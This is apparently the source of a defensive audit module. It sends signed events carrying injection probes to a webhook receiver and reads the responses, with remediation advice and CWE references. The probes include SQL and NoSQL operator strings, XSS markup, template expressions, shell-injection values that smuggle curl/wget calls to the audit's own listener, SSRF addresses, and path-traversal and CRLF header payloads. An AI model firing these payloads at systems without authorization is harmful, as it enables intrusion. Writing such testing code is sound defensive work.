"""Whether text from an event is ever taken for code, a query, a path or an address."""

import re
from collections.abc import Callable, Sequence
from dataclasses import replace
from urllib.parse import unquote

from ghlctl.audit.about import About, Topic
from ghlctl.audit.kit import Genuine, Kit
from ghlctl.audit.probing import (
    Came,
    Probe,
    Probed,
    Reading,
    Wrong,
    any_of,
    breaks,
    called_back,
    changed,
    held,
    must_hold,
    posed,
    reply_has,
    token,
    upstream_has,
    went_wrong,
)
from ghlctl.audit.refusal import REPEATS
from ghlctl.audit.script import Check, Need, Script
from ghlctl.model.delivery import Reply
from ghlctl.model.finding import Confidence, Outcome, Severity

_TEXTS = ("name", "firstName", "lastName", "companyName", "notes", "source", "city", "address1")
_ADDRESSES = ("website", "avatar", "profilePhoto", "callbackUrl", "logoUrl", "url", "imageUrl")
_FACTOR = 7919
_MARKUP = ("text/html", "application/xhtml", "image/svg")
_SQL_ERROR = re.compile(
    r"SQL syntax.{0,40}(?:MySQL|MariaDB)|SQLSTATE\[|syntax error at or near|unterminated quoted"
    r" string|sqlite3?\.(?:OperationalError|Exception)|SQLITE_ERROR|near \"[^\"]{0,40}\": syntax"
    r" error|unrecognized token: |ORA-\d{5}|Unclosed quotation mark|psycopg\d?\.|PG::SyntaxError"
    r"|ER_PARSE_ERROR|QueryException|Microsoft OLE DB|ODBC SQL",
    re.IGNORECASE,
)


def _everywhere(text: str, genuine: Genuine) -> dict[str, object]:
    """The same text in every field of free text, and as a tag."""
    present = dict.fromkeys(_TEXTS, text)
    tags = genuine.event.payload.get("tags")
    return present | ({"tags": [text]} if isinstance(tags, list) else {})


def sql(kit: Kit) -> Script:
    """A quote that breaks where a letter in its place does not, or that shows in an error.

    No clause is sent that sleeps or deletes; text that arrives escaped by hand is a warning.
    """
    tried = yield from posed(kit, [_sql_probe(where, how) for where in _WHERE for how in _QUOTES])
    suspects = [one.probe for one in tried if one.wrong or breaks(one.came)]
    if not suspects:
        return held(tried, Confidence.HIGH)
    again = []
    for _ in range(REPEATS - 1):
        again += yield from posed(kit, suspects)
    harmless = []
    for _ in range(REPEATS):
        harmless += yield from posed(kit, [_sql_probe(where, "a letter") for where in _WHERE])
    fragile = any(breaks(one.came) for one in harmless)
    asked = [one for one in tried if one.probe in suspects] + again
    found = asked if fragile else [_accused(one) for one in asked]
    return went_wrong(found) if any(one.wrong for one in found) else held(tried, Confidence.HIGH)


_WHERE = ("texts", "email", "id")
_QUOTES = {"a quote": "'", "a double quote": '"', "a clause": "' OR '1'='1"}
_SPELT = _QUOTES | {"a letter": "x"}


def _sql_probe(where: str, how: str) -> Probe:
    return changed(f"with {how} in {where}", _placed(where, _SPELT[how]), _sql_reading)


def _accused(one: Probed) -> Probed:
    """A server error that a letter in the quote's place does not cause is the quote's doing."""
    if one.wrong or not (broken := breaks(one.came)):
        return one
    what = f"{broken.what} over a quote, and not over a letter in its place"
    return replace(one, wrong=Wrong(what, Confidence.HIGH))


def _placed(where: str, text: str) -> Callable[[Genuine, Kit], dict[str, object]]:
    def fields(genuine: Genuine, _kit: Kit) -> dict[str, object]:
        match where:
            case "texts":
                return _everywhere(f"O{text}{token(genuine)}", genuine)
            case "email":
                return {"email": f"x{text}{genuine.canary.email}"}
            case _:
                return {"id": f"{genuine.canary.contact_id}{text}"}

    return fields


def _sql_reading(genuine: Genuine) -> Reading:
    def read(came: Came) -> Wrong | None:
        if found := _SQL_ERROR.search(came.text):
            return Wrong(f"showed a database's error ({found.group(0)[:40]})", Confidence.HIGH)
        by_hand = (f"O''{token(genuine)}", f"O\\\\'{token(genuine)}")
        if any(text in line.body for line in came.lines for text in by_hand):
            what = "passed a quote on as two, as code does that escapes by hand"
            return Wrong(what, outcome=Outcome.WARN, severity=Severity.LOW)
        return None

    return read


def operators(kit: Kit) -> Script:
    """A query's operator in place of the contact's id and e-mail; every match is a stranger."""
    values: tuple[object, ...] = (
        {"$gt": ""},
        {"$ne": None},
        {"$regex": "^"},
        {"$where": "true"},
        {"$exists": True},
    )
    probes = [
        changed(f"with {value} as contact", _as_contact(value), lambda g: _someone_else(kit, g))
        for value in values
    ]
    return (yield from must_hold(kit, probes, accounted=True))


def _as_contact(value: object) -> Callable[[Genuine, Kit], dict[str, object]]:
    def fields(genuine: Genuine, _kit: Kit) -> dict[str, object]:
        names = [name for name in ("id", "contactId", "email") if name in genuine.event.payload]
        return dict.fromkeys(names, value)

    return fields


_NOBODY = re.compile(r"\$|\{|\[|object Object|None|null|undefined|%7B|%5B|//|/$", re.IGNORECASE)


def _someone_else(kit: Kit, _genuine: Genuine) -> Reading:
    """It acted, and on nothing that an operator turns into when it is made a text."""

    def read(came: Came) -> Wrong | None:
        acts = [line for line in came.lines if kit.footprint.acts([line])]
        if any(not _NOBODY.search(f"{unquote(line.path)}") for line in acts):
            return Wrong("took an operator for a contact and acted on whom it matched")
        return None

    return read


def markup(kit: Kit) -> Script:
    """Marked-up text that must not come back as a page; upstream it may stand as it is."""
    probes = [
        changed(f"with {name} in every text", _marked_up(make), _shown_as_page(make))
        for name, make in _MARKS
    ]
    return (yield from must_hold(kit, probes, worth=Confidence.HIGH))


_MARKS: tuple[tuple[str, Callable[[str], str]], ...] = (
    ("an svg", lambda mark: f"<svg onload=alert('{mark}')>"),
    ("a script", lambda mark: f"<script>/*{mark}*/</script>"),
    ("an attribute", lambda mark: f'"><img src={mark} onerror=alert(1)>'),
)


def _marked_up(make: Callable[[str], str]) -> Callable[[Genuine, Kit], dict[str, object]]:
    return lambda genuine, _kit: _everywhere(make(token(genuine)), genuine)


def _shown_as_page(make: Callable[[str], str]) -> Callable[[Genuine], Reading]:
    return lambda genuine: page_with(make(token(genuine)))


def page_with(text: str) -> Reading:
    """The reply is a page, and the text stands in it as it was sent."""

    def read(came: Came) -> Wrong | None:
        if not isinstance(came.answer, Reply):
            return None
        told = [v for k, v in came.answer.headers if k.lower() == "content-type"]
        if text in came.text and any(kind in " ".join(told).lower() for kind in _MARKUP):
            return Wrong("put markup from the event into a page as it was", Confidence.HIGH)
        return None

    return read


def templates(kit: Kit) -> Script:
    """A product of two numbers in the brackets of template languages."""
    factors = [kit.random.randrange(100_003, 999_983) for _ in _BRACKETS]
    probes = []
    for (before, after), factor in zip(_BRACKETS, factors, strict=True):
        asked, product = f"{before}{factor}*{_FACTOR}{after}", str(factor * _FACTOR)
        what = f"worked out {before}…{after} from the event's text"
        read = any_of(upstream_has(product, what), reply_has(product, what))
        probes.append(changed(f"with {asked}", _constantly(asked), _always(read)))
    return (yield from must_hold(kit, probes))


_BRACKETS = (
    ("{{", "}}"),
    ("${", "}"),
    ("<%=", "%>"),
    ("#{", "}"),
    ("{", "}"),
    ("*{", "}"),
    ("@(", ")"),
    ("[[${", "}]]"),
    ("{%print(", ")%}"),
)


def _constantly(text: str) -> Callable[[Genuine, Kit], dict[str, object]]:
    return lambda genuine, _kit: _everywhere(text, genuine)


def _always(read: Reading) -> Callable[[Genuine], Reading]:
    return lambda _genuine: read


def commands(kit: Kit) -> Script:
    """A sum that only a shell works out, as part of an address that only a shell then calls."""
    number = kit.random.randrange(100_003, 999_983)
    product = str(number * _FACTOR)
    sum_ = f"$(({number}*{_FACTOR}))"
    read = any_of(
        called_back(product, "ran a command from the event's text"),
        upstream_has(product, "let a shell work out the event's text"),
        reply_has(product, "let a shell work out the event's text"),
    )

    def fields(text: str) -> Callable[[Genuine, Kit], dict[str, object]]:
        def made(genuine: Genuine, kit: Kit) -> dict[str, object]:
            url = f"{kit.listener}/{genuine.canary.delivery_id}/{sum_}"
            call = f"curl -s {url}||wget -qO- {url}"
            filled = text.replace("CALL", call).replace("SUM", f"echo {sum_}")
            return _everywhere(filled, genuine) | {"phone": filled}

        return made

    probes = [changed(f"with {name}", fields(text), _always(read)) for name, text in _SHELL]
    return (yield from must_hold(kit, probes, worth=Confidence.HIGH))


_SHELL = (
    ("a semicolon", "x; CALL #"),
    ("a pipe", "x | CALL"),
    ("an ampersand", "x & CALL &"),
    ("backticks", "`CALL`"),
    ("$()", "$(CALL)"),
    ("$() that prints", "$(SUM)"),
    ("a newline", "x\nCALL\n"),
    ("a single quote", "x'; CALL; '"),
    ("a double quote", 'x"; CALL; "'),
)


def fetches(kit: Kit) -> Script:
    """Addresses on the audit's own listener, in every field that names one."""

    def fields(suffix: str) -> Callable[[Genuine, Kit], dict[str, object]]:
        def made(genuine: Genuine, kit: Kit) -> dict[str, object]:
            at = f"{kit.listener}/{genuine.canary.delivery_id}"
            url = {name: f"{at}/{name}{suffix}" for name in _ADDRESSES}
            listed = [f"{at}/attachments{suffix}", {"url": f"{at}/attached{suffix}"}]
            text = f"see {at}/text{suffix} there"
            return {**url, "attachments": listed, "notes": text, "body": text}

        return made

    read = called_back("", "fetched an address that stood in the event")
    probes = [
        changed(f"with addresses that end in {suffix or 'nothing'}", fields(suffix), _always(read))
        for suffix in ("", ".png", "?x=.example.com")
    ]
    return (yield from must_hold(kit, probes, worth=Confidence.HIGH))


def paths(kit: Kit) -> Script:
    """Ids that would lead the request upstream to another path, query or header."""
    fields = [n for n in ("id", "contactId", "locationId") if n in kit.genuine().event.payload]
    probes = [
        changed(f"with {name} in {field}", _leading(field, make), _elsewhere(field, make))
        for field in fields
        for name, make in _LEADING
    ]
    return (yield from must_hold(kit, probes))


_Leading = Callable[[str, str], str]
_LEADING: tuple[tuple[str, _Leading], ...] = (
    ("../", lambda own, mark: f"{own}/../../{mark}"),
    ("../ alone", lambda _own, mark: f"../../{mark}"),
    ("a slash", lambda own, mark: f"{own}/{mark}"),
    ("%2e%2e%2f", lambda own, mark: f"{own}%2f%2e%2e%2f{mark}"),
    ("a backslash", lambda own, mark: f"{own}\\..\\{mark}"),
    ("a question mark", lambda own, mark: f"{own}?x={mark}"),
    ("an ampersand", lambda own, mark: f"{own}&x={mark}"),
    ("a hash", lambda own, mark: f"{own}#{mark}"),
    ("a line break", lambda own, mark: f"{own}\r\nX-Ghlctl: {mark}"),
    ("a space", lambda own, mark: f"{own} HTTP/1.1\r\nX: {mark}"),
)


def _mark(genuine: Genuine) -> str:
    return f"ghlctl-{genuine.canary.delivery_id}"


def _leading(field: str, make: _Leading) -> Callable[[Genuine, Kit], dict[str, object]]:
    return lambda g, _kit: {field: make(str(g.event.payload[field]), _mark(g))}


def _elsewhere(field: str, make: _Leading) -> Callable[[Genuine], Reading]:
    """The raw request line shows the id in more than one segment, or cut where it ends for HTTP.

    What is not encoded and does no harm there, as & in a path, is no fault.
    """

    def reading(genuine: Genuine) -> Reading:
        own, mark = str(genuine.event.payload[field]), _mark(genuine)
        sent = make(own, mark)
        encoded = rf"|%2f{mark}|%2e%2f" if "%2f" in sent else ""
        segment = re.compile(rf"[/\\]{mark}{encoded}", re.IGNORECASE)
        # A known location may come from elsewhere than the event.
        cuts = field != "locationId" and any(one in sent for one in "#\r?")

        def read(came: Came) -> Wrong | None:
            for line in came.lines:
                path, _, query = line.path.partition("?")
                parameter = any(one.startswith(f"x={mark}") for one in query.split("&"))
                cut = cuts and own in path.split("/") and mark not in line.path
                if segment.search(path) or parameter or cut:
                    return Wrong(f"let {field} decide where its request upstream goes")
            return None

        return read

    return reading


def _check(
    script: Callable[[Kit], Script],
    id_: str,
    name: str,
    severity: Severity,
    title: str,
    asks: str,
    correct: str,
    why: str,
    remedy: str,
    references: Sequence[str],
    *needs: Need,
) -> Check:
    about = About(
        id_, name, Topic.INPUT, title, severity, asks, correct, why, remedy, tuple(references)
    )
    return Check(about, script, frozenset({Need.KEY, *needs}))


SQL = _check(
    sql,
    "INP-13",
    "sql-injection",
    Severity.CRITICAL,
    "Keeps quotes out of its queries",
    "genuinely signed events with quotes and a clause in texts, e-mail and id",
    "text stays text: no database error, no 5xx that a doubled quote avoids",
    "whoever can put a name into a form upstream could read and change the receiver's database",
    "use parameterised queries only",
    ("CWE-89", "ASVS v5.0.0-1.2.4", "API10:2023", "API8:2023"),
)

OPERATORS = _check(
    operators,
    "INP-14",
    "query-operators",
    Severity.HIGH,
    "Takes no query operator for an id",
    'genuinely signed events with {"$gt": ""} and the like as id and e-mail',
    "a 4xx reply, or nothing found; no other contact touched",
    "an operator matches somebody, and the event is put down to them",
    "check that ids are texts of the expected form",
    ("CWE-943", "ASVS v5.0.0-1.2.4", "API10:2023"),
    Need.UPSTREAM,
)

MARKUP = _check(
    markup,
    "INP-15",
    "markup-reflected",
    Severity.HIGH,
    "Never shows an event's markup as a page",
    "genuinely signed events with markup in every text",
    "no page with it in the reply; upstream it may stand as it is, or encoded",
    "a page that shows an event's text runs what strangers wrote into it",
    "answer with JSON and a fixed text; encode where text is shown",
    ("CWE-79", "CWE-116", "ASVS v5.0.0-1.2.1", "ASVS v5.0.0-1.1.2", "API10:2023", "CVE-2023-46735"),
)

TEMPLATES = _check(
    templates,
    "INP-16",
    "template-injection",
    Severity.CRITICAL,
    "Never takes an event's text for a template",
    "genuinely signed events with a multiplication in the brackets of template languages",
    "the text stays as it is; its product is seen nowhere",
    "what works out a product from an event's text also runs a stranger's code",
    "give text to templates as values, never as part of the template",
    ("CWE-1336", "CWE-94", "ASVS v5.0.0-1.3.7", "ASVS v5.0.0-1.3.2", "API10:2023"),
    Need.UPSTREAM,
)

COMMANDS = _check(
    commands,
    "INP-18",
    "command-injection",
    Severity.CRITICAL,
    "Never lets a shell read an event's text",
    "genuinely signed events with shell syntax that would call the audit's own listener",
    "no call, and no sum worked out",
    "whoever can put a name into a form upstream could run commands on the receiver",
    "start programs with a list of arguments and no shell, or not at all",
    ("CWE-78", "CWE-77", "ASVS v5.0.0-1.2.5", "API10:2023"),
    Need.LISTENER,
)

FETCHES = _check(
    fetches,
    "INP-19",
    "fetches-addresses",
    Severity.HIGH,
    "Fetches no address from an event",
    "genuinely signed events with addresses of the audit's own listener",
    "no call to them, or only to hosts on a list",
    "a stranger decides what the receiver calls from inside the network",
    "fetch from a list of hosts only, through a proxy that refuses private addresses",
    ("CWE-918", "ASVS v5.0.0-1.3.6", "ASVS v5.0.0-13.2.4", "API7:2023"),
    Need.LISTENER,
)

PATHS = _check(
    paths,
    "INP-20",
    "id-leads-elsewhere",
    Severity.HIGH,
    "Keeps ids inside their place in the path upstream",
    "genuinely signed events with ../, %2f, ?, # and line breaks in ids",
    "refused, or percent-encoded; the path upstream stays as it is meant",
    "with the receiver's own token, a stranger chooses what is called upstream",
    "check ids against their form, and encode each segment of a path",
    (
        "CWE-22",
        "CWE-74",
        "CWE-113",
        "ASVS v5.0.0-1.2.2",
        "ASVS v5.0.0-2.2.1",
        "API10:2023",
        "API8:2023",
    ),
    Need.UPSTREAM,
)

CHECKS = (SQL, OPERATORS, MARKUP, TEMPLATES, COMMANDS, FETCHES, PATHS)
